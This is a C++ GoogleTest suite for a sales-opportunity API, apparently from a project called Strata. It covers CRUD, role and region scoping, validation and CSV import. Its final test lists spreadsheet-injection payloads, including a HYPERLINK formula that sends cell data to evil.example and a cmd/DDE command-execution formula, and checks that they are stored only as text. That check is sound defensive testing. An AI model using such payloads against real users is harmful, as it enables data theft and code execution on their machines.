// The vendor's direct pipeline over HTTP: the API shape, who may use it, errors and the CSV import.
#include <gtest/gtest.h>

#include <set>

#include "test_app.h"

namespace strata::api_testing {
namespace {

std::string Id(const json::value& object) { return std::string(object.at("id").as_string()); }

// The fields a problem names.
std::set<std::string> ErrorFields(const RawResponse& response) {
  const json::value problem = response.Json();
  std::set<std::string> fields;
  for (const auto& error : problem.at("errors").as_object()) fields.emplace(error.key());
  return fields;
}

// The (line, field) pairs an import's problem lists.
std::vector<std::pair<std::int64_t, std::string>> Rows(const RawResponse& response) {
  const json::value problem = response.Json();
  std::vector<std::pair<std::int64_t, std::string>> rows;
  for (const auto& row : problem.at("rows").as_array()) {
    rows.emplace_back(row.at("line").as_int64(), std::string(row.at("field").as_string()));
    EXPECT_FALSE(row.at("message").as_string().empty());
  }
  return rows;
}

class DirectPipelineApiTest : public ::testing::Test {
 protected:
  void SetUp() override {
    vendor_ = app_.SignUp("vera@initech.test", {"vendor"}, "Initech");
    partner_ = app_.SignUp("pat@partner.test", {"reseller"}, "Partner Ltd");
    viewer_ = Join("vic@initech.test", "viewer", R"({"regions":[],"vendors":[]})");
    emea_ = Join("emma@initech.test", "member", R"({"regions":["EMEA"],"vendors":[]})");
  }

  // A new person joins the vendor with `role` and `scopes`.
  SignedIn Join(const std::string& email, const std::string& role, const std::string& scopes) {
    auto invited = app_.Call(
        vendor_, "POST", "/api/v1/member-invitations",
        R"({"email":")" + email + R"(","role":")" + role + R"(","scopes":)" + scopes + "}");
    EXPECT_EQ(invited.status, 201) << invited.body;
    const std::string token = TokenAfter(app_.LatestMailTo(email), "/join/");
    auto joined = app_.Post("/api/v1/auth/signup",
                            R"({"email":")" + email +
                                R"(","password":"correct horse battery","name":"Member",)"
                                R"("invitation":")" +
                                token + "\"}");
    EXPECT_EQ(joined.status, 201) << joined.body;
    return SignedInFrom(joined);
  }

  RawResponse Import(const SignedIn& who, const std::string& csv,
                     const std::string& type = "text/csv; charset=utf-8") {
    return Fetch(app_.port(), "POST", "/api/v1/direct-opportunities/import", csv,
                 {{"Cookie", who.cookie}, {"X-CSRF-Token", who.csrf}, {"Content-Type", type}});
  }

  json::value Create(const std::string& body, const SignedIn* who = nullptr) {
    auto created = app_.Call(who ? *who : vendor_, "POST", "/api/v1/direct-opportunities", body);
    EXPECT_EQ(created.status, 201) << created.body;
    return created.status == 201 ? created.Json() : json::value();
  }

  // The companies a user lists, over every page.
  std::vector<std::string> Companies(const SignedIn& who, const std::string& query = "") {
    std::vector<std::string> companies;
    std::string cursor;
    do {
      auto page = app_.Call(who, "GET",
                            "/api/v1/direct-opportunities?limit=2" + query +
                                (cursor.empty() ? "" : "&cursor=" + cursor));
      EXPECT_EQ(page.status, 200) << page.body;
      if (page.status != 200) break;
      const json::value body = page.Json();
      for (const auto& item : body.at("items").as_array()) {
        companies.emplace_back(item.at("company").as_string());
      }
      cursor =
          body.at("next_cursor").is_null() ? "" : std::string(body.at("next_cursor").as_string());
    } while (!cursor.empty());
    return companies;
  }

  TestApp app_;
  SignedIn vendor_;
  SignedIn partner_;
  SignedIn viewer_;
  SignedIn emea_;
};

TEST_F(DirectPipelineApiTest, CreatesReadsListsChangesAndDeletes) {
  const json::value created =
      Create(R"({"company":"  Globex Corp ","website":"https://globex.example","country":"us",)"
             R"("region":"AMER","amount":{"minor":1250050,"currency":"USD"},)"
             R"("expected_close":"2026-12-31","owner":"Kim","external_id":"SF-1",)"
             R"("notes":"Two sites"})");
  const std::string id = Id(created);
  EXPECT_EQ(created.at("company").as_string(), "Globex Corp");
  EXPECT_EQ(created.at("country").as_string(), "US");
  EXPECT_EQ(created.at("status").as_string(), "open");
  EXPECT_EQ(created.at("amount").at("minor").as_int64(), 1250050);
  EXPECT_EQ(created.at("amount").at("currency").as_string(), "USD");
  EXPECT_EQ(created.at("expected_close").as_string(), "2026-12-31");
  EXPECT_EQ(created.at("external_id").as_string(), "SF-1");
  EXPECT_FALSE(created.as_object().contains("org_id"));

  auto read = app_.Call(vendor_, "GET", "/api/v1/direct-opportunities/" + id);
  ASSERT_EQ(read.status, 200) << read.body;
  EXPECT_EQ(read.Json(), created);

  Create(R"({"company":"Initrode"})");
  Create(R"({"company":"Umbrella","status":"won"})");
  EXPECT_EQ(Companies(vendor_), (std::vector<std::string>{"Umbrella", "Initrode", "Globex Corp"}));
  EXPECT_EQ(Companies(vendor_, "&status=won"), std::vector<std::string>{"Umbrella"});
  EXPECT_EQ(Companies(vendor_, "&q=GLOBEX"), std::vector<std::string>{"Globex Corp"});
  EXPECT_TRUE(Companies(vendor_, "&q=%25").empty());

  auto changed = app_.Call(vendor_, "PATCH", "/api/v1/direct-opportunities/" + id,
                           R"({"status":"lost","amount":null,"expected_close":null,)"
                           R"("external_id":null,"owner":"Lee"})");
  ASSERT_EQ(changed.status, 200) << changed.body;
  const json::value after = changed.Json();
  EXPECT_EQ(after.at("status").as_string(), "lost");
  EXPECT_TRUE(after.at("amount").is_null());
  EXPECT_TRUE(after.at("expected_close").is_null());
  EXPECT_TRUE(after.at("external_id").is_null());
  EXPECT_EQ(after.at("owner").as_string(), "Lee");
  EXPECT_EQ(after.at("company").as_string(), "Globex Corp");

  EXPECT_EQ(app_.Call(vendor_, "DELETE", "/api/v1/direct-opportunities/" + id).status, 204);
  EXPECT_EQ(app_.Call(vendor_, "GET", "/api/v1/direct-opportunities/" + id).status, 404);
  EXPECT_EQ(app_.Call(vendor_, "DELETE", "/api/v1/direct-opportunities/" + id).status, 404);
  EXPECT_EQ(app_.Call(vendor_, "PATCH", "/api/v1/direct-opportunities/" + id, "{}").status, 404);
}

TEST_F(DirectPipelineApiTest, PartnersNeverSeeItViewersOnlyReadScopedMembersStayInside) {
  const std::string emea = Id(Create(R"({"company":"Emea Co","region":"EMEA"})"));
  const std::string apac = Id(Create(R"({"company":"Apac Co","region":"APAC"})"));
  const std::string path = "/api/v1/direct-opportunities/";

  EXPECT_EQ(app_.Call(partner_, "GET", "/api/v1/direct-opportunities").status, 403);
  EXPECT_EQ(
      app_.Call(partner_, "POST", "/api/v1/direct-opportunities", R"({"company":"X"})").status,
      403);
  EXPECT_EQ(Import(partner_, "company\nX\n").status, 403);
  for (const auto& id : {emea, apac}) {
    const auto seen = app_.Call(partner_, "GET", path + id);
    EXPECT_EQ(seen.status, 404);
    EXPECT_EQ(seen.body.find("Co"), std::string::npos);
    EXPECT_EQ(app_.Call(partner_, "PATCH", path + id, R"({"company":"Mine"})").status, 403);
    EXPECT_EQ(app_.Call(partner_, "DELETE", path + id).status, 403);
  }

  EXPECT_EQ(Companies(viewer_), (std::vector<std::string>{"Apac Co", "Emea Co"}));
  EXPECT_EQ(app_.Call(viewer_, "GET", path + apac).status, 200);
  EXPECT_EQ(app_.Call(viewer_, "POST", "/api/v1/direct-opportunities", R"({"company":"X"})").status,
            403);
  EXPECT_EQ(app_.Call(viewer_, "PATCH", path + apac, R"({"company":"X"})").status, 403);
  EXPECT_EQ(app_.Call(viewer_, "DELETE", path + apac).status, 403);
  EXPECT_EQ(Import(viewer_, "company\nX\n").status, 403);

  EXPECT_EQ(Companies(emea_), std::vector<std::string>{"Emea Co"});
  EXPECT_EQ(app_.Call(emea_, "GET", path + apac).status, 404);
  EXPECT_EQ(app_.Call(emea_, "DELETE", path + apac).status, 404);
  auto outside = app_.Call(emea_, "POST", "/api/v1/direct-opportunities",
                           R"({"company":"X","region":"APAC"})");
  EXPECT_EQ(outside.status, 400);
  EXPECT_EQ(ErrorFields(outside), std::set<std::string>{"region"});
  Create(R"({"company":"Emea Two","region":"EMEA"})", &emea_);

  EXPECT_EQ(app_.Get("/api/v1/direct-opportunities").status, 401);
  EXPECT_EQ(app_.Get(path + emea).status, 401);
  EXPECT_EQ(app_.Post("/api/v1/direct-opportunities/import", "company\nX\n").status, 401);
}

TEST_F(DirectPipelineApiTest, BadInputNamesEveryFieldAndStoresNothing) {
  auto bad = app_.Call(vendor_, "POST", "/api/v1/direct-opportunities",
                       R"({"company":" ","website":"acme .example","country":"USA",)"
                       R"("region":")" +
                           std::string(101, 'r') +
                           R"(","amount":{"minor":-5,"currency":"EURO"},)"
                           R"("expected_close":"2026-02-30","owner":7,"external_id":"",)"
                           R"("status":"sold","notes":")" +
                           std::string(5001, 'n') + "\"}");
  ASSERT_EQ(bad.status, 400) << bad.body;
  EXPECT_EQ(bad.Header("content-type"), "application/problem+json");
  // Types are checked first; the rest on a body whose types are right.
  EXPECT_EQ(ErrorFields(bad), (std::set<std::string>{"owner", "status"}));
  auto values = app_.Call(vendor_, "POST", "/api/v1/direct-opportunities",
                          R"({"company":" ","website":"acme .example","country":"USA",)"
                          R"("region":")" +
                              std::string(101, 'r') +
                              R"(","amount":{"minor":-5,"currency":"EURO"},)"
                              R"("expected_close":"2026-02-30","external_id":"","notes":")" +
                              std::string(5001, 'n') + "\"}");
  ASSERT_EQ(values.status, 400) << values.body;
  EXPECT_EQ(ErrorFields(values),
            (std::set<std::string>{"company", "website", "country", "region", "amount.minor",
                                   "amount.currency", "expected_close", "external_id", "notes"}));
  auto missing = app_.Call(vendor_, "POST", "/api/v1/direct-opportunities", R"({"website":"x"})");
  EXPECT_EQ(ErrorFields(missing), std::set<std::string>{"company"});
  auto amount = app_.Call(vendor_, "POST", "/api/v1/direct-opportunities",
                          R"({"company":"X","amount":{"minor":1.5}})");
  EXPECT_EQ(ErrorFields(amount), (std::set<std::string>{"amount.minor", "amount.currency"}));
  EXPECT_EQ(app_.Call(vendor_, "POST", "/api/v1/direct-opportunities", "[1]").status, 400);
  EXPECT_EQ(app_.Call(vendor_, "GET", "/api/v1/direct-opportunities?status=sold").status, 400);
  EXPECT_EQ(app_.Call(vendor_, "GET", "/api/v1/direct-opportunities?limit=0").status, 400);
  EXPECT_TRUE(Companies(vendor_).empty());

  // An external id is the vendor's once.
  const std::string first = Id(Create(R"({"company":"A","external_id":"SF-1"})"));
  const std::string second = Id(Create(R"({"company":"B","external_id":"SF-2"})"));
  auto taken = app_.Call(vendor_, "POST", "/api/v1/direct-opportunities",
                         R"({"company":"C","external_id":"SF-1"})");
  EXPECT_EQ(taken.status, 409) << taken.body;
  EXPECT_EQ(app_.Call(vendor_, "PATCH", "/api/v1/direct-opportunities/" + second,
                      R"({"external_id":"SF-1"})")
                .status,
            409);
  EXPECT_EQ(app_.Call(vendor_, "PATCH", "/api/v1/direct-opportunities/" + first,
                      R"({"external_id":"SF-1","company":"A2"})")
                .status,
            200);
}

TEST_F(DirectPipelineApiTest, ImportsCreateAndThenUpdateByExternalId) {
  auto imported = Import(vendor_,
                         "Company,Amount,Currency,External_ID,Region\r\n"
                         "Acme,12500.50,EUR,SF-1,EMEA\r\n"
                         "\"Hooli, Inc.\",,,SF-2,AMER\r\n"
                         "Initrode,,,,\r\n");
  ASSERT_EQ(imported.status, 200) << imported.body;
  EXPECT_EQ(imported.Json(), json::parse(R"({"created":3,"updated":0})"));

  auto again = Import(vendor_,
                      "external_id,company,status\n"
                      "SF-1,Acme Group,won\n"
                      "SF-3,Vandelay,\n");
  ASSERT_EQ(again.status, 200) << again.body;
  EXPECT_EQ(again.Json(), json::parse(R"({"created":1,"updated":1})"));
  EXPECT_EQ(Companies(vendor_),
            (std::vector<std::string>{"Vandelay", "Initrode", "Hooli, Inc.", "Acme Group"}));
  auto won = app_.Call(vendor_, "GET", "/api/v1/direct-opportunities?status=won");
  const json::value acme = won.Json().at("items").at(0);
  EXPECT_EQ(acme.at("company").as_string(), "Acme Group");
  // What the second file has no column for stays as it was.
  EXPECT_EQ(acme.at("amount").at("minor").as_int64(), 1250050);
  EXPECT_EQ(acme.at("region").as_string(), "EMEA");
  // The scoped member sees what the import put in its region.
  EXPECT_EQ(Companies(emea_), std::vector<std::string>{"Acme Group"});
}

TEST_F(DirectPipelineApiTest, AnImportWithBadRowsListsEveryOneAndStoresNothing) {
  Create(R"({"company":"Stored"})");
  auto rejected = Import(vendor_,
                         "company,country,amount,currency,external_id,expected_close\n"
                         "Good,DE,10,EUR,A-1,\n"
                         ",DE,,,,\n"
                         "Bad,DEU,1.234,EUR,,\n"
                         "Again,FR,,,A-1,\n"
                         "Late,FR,,,,31/12/2026\n"
                         "Short\n");
  ASSERT_EQ(rejected.status, 400) << rejected.body;
  EXPECT_EQ(rejected.Header("content-type"), "application/problem+json");
  const json::value problem = rejected.Json();
  EXPECT_EQ(problem.at("type").as_string(), "urn:strata:problem:invalid-argument");
  EXPECT_NE(problem.at("detail").as_string().find("nothing was imported"), std::string::npos);
  EXPECT_EQ(Rows(rejected),
            (std::vector<std::pair<std::int64_t, std::string>>{{3, "company"},
                                                               {4, "amount"},
                                                               {4, "country"},
                                                               {5, "external_id"},
                                                               {6, "expected_close"},
                                                               {7, ""}}));
  EXPECT_EQ(Companies(vendor_), std::vector<std::string>{"Stored"});

  auto column = Import(vendor_, "company,colour\nAcme,red\n");
  ASSERT_EQ(column.status, 400);
  EXPECT_EQ(Rows(column), (std::vector<std::pair<std::int64_t, std::string>>{{1, "colour"}}));
  auto broken = Import(vendor_, "company\nfine\n\"never closed\n");
  EXPECT_EQ(Rows(broken), (std::vector<std::pair<std::int64_t, std::string>>{{3, ""}}));
  EXPECT_EQ(Import(vendor_, "", "text/csv").status, 400);
  auto json_body = Import(vendor_, R"({"company":"X"})", "application/json");
  EXPECT_EQ(json_body.status, 415);
  EXPECT_EQ(Import(vendor_, "company\nX\n", "text/plain").status, 415);
  EXPECT_EQ(Companies(vendor_), std::vector<std::string>{"Stored"});
}

// Spreadsheet formulas are data: stored and answered exactly as sent, never evaluated or changed.
TEST_F(DirectPipelineApiTest, CsvInjectionPayloadsAreStoredAsText) {
  const std::vector<std::string> payloads = {"=1+1",
                                             "+1+1",
                                             "-1+1",
                                             "@SUM(1+1)",
                                             R"(=HYPERLINK("http://evil.example?x="&A1,"Error"))",
                                             "=cmd|' /C calc'!A0",
                                             "\t=1+1"};
  std::string csv = "company,notes\n";
  for (const auto& payload : payloads) {
    std::string quoted = "\"";
    for (char c : payload) quoted += c == '"' ? std::string("\"\"") : std::string(1, c);
    quoted += "\"";
    csv.append("\"Co ").append(quoted.substr(1)).append(",").append(quoted).append("\n");
  }
  auto imported = Import(vendor_, csv);
  ASSERT_EQ(imported.status, 200) << imported.body;
  std::set<std::string> notes;
  const json::value listed =
      app_.Call(vendor_, "GET", "/api/v1/direct-opportunities?limit=50").Json();
  for (const auto& item : listed.at("items").as_array()) {
    notes.emplace(item.at("notes").as_string());
  }
  EXPECT_EQ(notes, std::set<std::string>(payloads.begin(), payloads.end()));
}

}  // namespace
}  // namespace strata::api_testing
